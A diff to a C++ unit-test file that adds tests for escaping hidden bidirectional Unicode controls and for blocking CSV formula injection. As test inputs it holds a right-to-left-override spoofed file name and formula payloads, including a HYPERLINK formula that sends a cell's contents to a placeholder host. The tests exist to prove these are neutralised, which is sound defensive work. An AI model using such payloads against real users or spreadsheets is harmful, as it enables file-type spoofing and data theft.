@@ -1,6 +1,6 @@
-// Text from users in every output: control characters and stray bytes made visible (terminal,
-// errors), Markdown cells, CSV fields, HTML and LaTeX escaping, names recorded as UTF-8, and counts
-// at the edge of int64.
+// Text from users in every output: control characters, bidirectional controls and stray bytes made
+// visible (terminal, errors), Markdown cells, CSV fields that no spreadsheet runs as formulas, HTML
+// and LaTeX escaping, names recorded as UTF-8, and counts at the edge of int64.
 #include <gtest/gtest.h>
 
 #include <cstdint>
@@ -26,6 +26,34 @@ TEST(TextEscape, ControlCharactersAndStrayBytesBecomeVisible) {
                       "c\xc3"),
             "b\\xffc\\xc3");                                // stray and truncated bytes escaped
   EXPECT_EQ(printable("\xed\xa0\x80"), "\\xed\\xa0\\x80");  // a surrogate is not UTF-8
+}
+
+TEST(TextEscape, HiddenControlsAreShownInTheOrderTheyAreStored) {
+  // Bidirectional controls (a name that reads "exe.txt" on screen but is stored "txt\u202eexe"),
+  // C1 controls and the Unicode line separators, as \uNNNN.
+  EXPECT_EQ(printable("evil\u202etxt.exe"), "evil\\u202etxt.exe");
+  for (const char* control : {"\u061c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066",
+                              "\u2067", "\u2068", "\u2069", "\u0085", "\u009b", "\u2028", "\u2029"})
+    EXPECT_EQ(printable(control).rfind("\\u", 0), 0u) << printable(control);
+  EXPECT_EQ(printable("\u200d\u2060\u00e9"), "\u200d\u2060\u00e9");  // joiners and letters kept
+  for (const std::string& shown : {markdown_escape("a\u202eb"), csv_escape("a\u202eb"), html_escape("a\u202eb")})
+    EXPECT_EQ(shown, "a\\u202eb");
+  EXPECT_EQ(latex_escape("a\u202eb"), "a\\textbackslash{}u202eb");
+}
+
+TEST(TextEscape, CsvCellsAreNeverFormulas) {
+  // OWASP's rule: a text cell that starts with = + - @ (tab, carriage return) gets a leading '.
+  EXPECT_EQ(csv_escape("=1+2"), "'=1+2");
+  EXPECT_EQ(csv_escape("+SUM(A1)"), "'+SUM(A1)");
+  EXPECT_EQ(csv_escape("-2+3"), "'-2+3");
+  EXPECT_EQ(csv_escape("@cmd"), "'@cmd");
+  EXPECT_EQ(csv_escape("=HYPERLINK(\"http://x/?\"&A1,\"y\")"), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"");
+  EXPECT_EQ(csv_escape("\t=1"), "\\t=1");  // a tab is shown as \t, which no spreadsheet runs
+  // Numbers stay numbers, negative ones too; a name that only contains such a character is text.
+  for (const char* number : {"-7", "-1.5e-05", "0.25", "-.5", "12E+3"}) EXPECT_EQ(csv_escape(number), number);
+  for (const char* text : {"-", "-e5", "-1x", "--1", "-inf", "+1"})
+    EXPECT_EQ(csv_escape(text), std::string("'") + text);
+  EXPECT_EQ(csv_escape("a=b"), "a=b");
 }
 
 TEST(TextEscape, RecordedNamesAreAlwaysUtf8) {
